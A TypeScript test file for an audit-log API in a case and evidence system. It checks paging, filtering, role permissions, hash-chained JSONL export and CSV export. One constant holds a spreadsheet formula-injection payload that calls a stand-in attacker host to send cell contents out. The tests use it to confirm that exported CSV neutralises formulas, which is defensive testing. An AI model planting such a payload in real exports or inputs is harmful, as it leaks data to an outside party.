/** The record of actions over HTTP: read in pages, filtered, and taken away as what no spreadsheet runs. */
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { firstBrokenAction } from "../../../services/actions/action.ts";
import { GENESIS, linkDigest } from "../../../services/kernel/hash-chain.ts";
import type { ActionBody } from "../../../services/review/action-schema.ts";
import { csvLine } from "../../../services/kernel/csv-line.ts";
import { type House, openHouse } from "../../fixtures/review-house.ts";

let house: House;
beforeEach(async () => {
  house = await openHouse();
});
afterEach(() => house.close());

const HOSTILE = '=HYPERLINK("http://evil.example?"&A1)';

interface Page {
  readonly entries: readonly ActionBody[];
  readonly nextCursor: string | null;
}
const page = async (query: string): Promise<Page> =>
  (await (await house.fetch(`/api/v1/actions?${query}`, "auditor")).json()) as Page;
const openCase = (number: string) =>
  house.fetch("/api/v1/cases", "admin", {
    method: "POST",
    body: JSON.stringify({ number, title: HOSTILE }),
  });

describe("the record of actions", () => {
  it("is read newest first, page by page, with names of today, by auditors and administrators", async () => {
    await openCase("1");
    const all: ActionBody[] = [];
    let cursor: string | null = "";
    while (cursor !== null) {
      const { entries, nextCursor }: Page = await page(
        `limit=2${cursor === "" ? "" : `&cursor=${cursor}`}`,
      );
      all.push(...entries);
      cursor = nextCursor;
    }
    expect(all.map(({ index }) => index)).toEqual([...house.actions.all.keys()].reverse());
    expect(all[0]).toMatchObject({
      ...{ kind: "case-created", actorName: "The admin", before: null, reason: null },
      after: { number: "1", title: HOSTILE },
    });
    expect(all.find(({ kind }) => kind === "device-registered")?.subjectName).toBe("DC-0012");
    for (const role of ["officer", "reviewer"] as const) {
      expect((await house.fetch("/api/v1/actions", role)).status).toBe(403);
    }
  });

  it("is filtered by kind, person, subject and time", async () => {
    await openCase("1");
    house.moveClock(60_000);
    await house.fetch(`/api/v1/devices/${house.device.id}`, "admin", { method: "DELETE" });
    const admin = [...house.access.accounts.values()].find(({ role }) => role === "admin")!;
    const kinds = async (query: string) => (await page(query)).entries.map(({ kind }) => kind);
    expect(await kinds(`kind=device-retired`)).toEqual(["device-retired"]);
    expect(await kinds(`about=device:${house.device.id}`)).toEqual([
      "device-retired",
      "device-registered",
    ]);
    expect((await kinds(`person=${admin.id}`)).slice(0, 2)).toEqual([
      "device-retired",
      "case-created",
    ]);
    expect(await kinds(`from=${encodeURIComponent("2026-11-24T20:01:00+08:00")}`)).toEqual([
      "device-retired",
    ]);
    expect(await kinds("until=2026-11-24T12:00:00Z")).toEqual([]);
    for (const query of ["kind=x", "person=x", "about=%27", "from=yesterday", "other=1"]) {
      expect((await house.fetch(`/api/v1/actions?${query}`)).status).toBe(400);
    }
  });

  it("has whole pages though some of it is hidden, and of what is hidden no page and no next one", async () => {
    for (const number of ["1", "2", "3", "4"]) {
      const { id } = (await (await openCase(number)).json()) as { id: string };
      if (number === "2" || number === "3") {
        const body = JSON.stringify({ kind: "informant", basis: "a document" });
        const init = { method: "POST", body };
        expect((await house.fetch(`/api/v1/cases/${id}/labels`, "admin", init)).status).toBe(201);
        expect(await page(`about=case:${id}&limit=1`)).toEqual({ entries: [], nextCursor: null });
      }
    }
    const numbers = ({ entries }: Page) => entries.map(({ after }) => after?.["number"]);
    expect(numbers(await page("kind=case-created&limit=3"))).toEqual(["4", "1", house.file.number]);
    const first = await page("kind=case-created&limit=1");
    expect(numbers(first)).toEqual(["4"]);
    const second = await page(`kind=case-created&limit=1&cursor=${first.nextCursor}`);
    expect(numbers(second)).toEqual(["1"]);
  });

  it("is taken away as exactly the texts that are hashed, and that is the last of them", async () => {
    const answer = await house.fetch("/api/v1/actions.jsonl", "auditor");
    expect(answer.headers.get("content-disposition")).toContain('filename="actions.jsonl"');
    const lines = (await answer.text()).trimEnd().split("\n");
    let previousSha256 = GENESIS;
    const links = lines.map((body, index) => {
      const link = { index, body, previousSha256 };
      previousSha256 = linkDigest("holdfast/action/v1", previousSha256, body);
      return { ...link, sha256: previousSha256 };
    });
    expect(firstBrokenAction(links)).toBeNull();
    expect(links.map(({ sha256 }) => sha256)).toEqual(house.actions.all.map((a) => a.sha256));
    expect(JSON.parse(lines.at(-1)!)).toMatchObject({
      kind: "actions-exported",
      after: { format: "jsonl" },
    });
  });

  it("is taken away as a table that no spreadsheet runs", async () => {
    await openCase("-2+3");
    const filtered = "/api/v1/actions.csv?kind=case-created";
    const bytes = Buffer.from(await (await house.fetch(filtered, "auditor")).arrayBuffer());
    expect(bytes.subarray(0, 3).toString("hex")).toBe("efbbbf");
    const rows = bytes.toString("utf8").trimEnd().split("\r\n");
    expect(rows.slice(1).every((row) => row.includes('"case-created"'))).toBe(true);
    expect(rows.at(-1)).toContain('""number"":""-2+3""');
    for (const text of [HOSTILE, "+1", "-1", "@x", "\t=1", " =1", "＝1", "\r=1"]) {
      expect(csvLine([text]).startsWith(`"'`)).toBe(true);
    }
    expect(csvLine([1, null, 'a"b', "c\nd", -1])).toBe('1,,"a""b","c\nd",-1\r\n');
    expect(house.actions.all.at(-1)).toMatchObject({
      ...{ kind: "actions-exported", after: { format: "csv", kind: "case-created" } },
    });
  });

  it("cannot be taken away unrecorded", async () => {
    house.actions.append = () => Promise.reject(new Error("the disk is full"));
    for (const format of ["csv", "jsonl"]) {
      const answer = await house.fetch(`/api/v1/actions.${format}`, "auditor");
      expect([answer.status, await answer.text()]).toEqual([
        500,
        expect.not.stringMatching(/^\{"index/),
      ]);
    }
  });
});

describe("an item's custody record", () => {
  it.each(["txt", "jsonl", "csv"])(
    "is taken away as %s with that as its last event",
    async (format) => {
      const path = `/api/v1/items/${house.item.id}/custody.${format}`;
      const text = await (await house.fetch(path, "auditor")).text();
      const chain = await house.evidence.custody(house.item.id);
      const last = chain.at(-1)!;
      expect(last).toMatchObject({ kind: "custody-exported", data: { format } });
      if (format === "csv") {
        const rows = text.trimEnd().split("\r\n");
        expect(rows).toHaveLength(chain.length + 1);
        expect(rows.at(-1)).toContain(last.sha256);
      } else {
        expect(text).toBe(chain.map(({ body }) => `${body}\n`).join(""));
      }
      const unknown = path.replace(house.item.id, house.device.id);
      expect((await house.fetch(unknown, "auditor")).status).toBe(404);
    },
  );
});
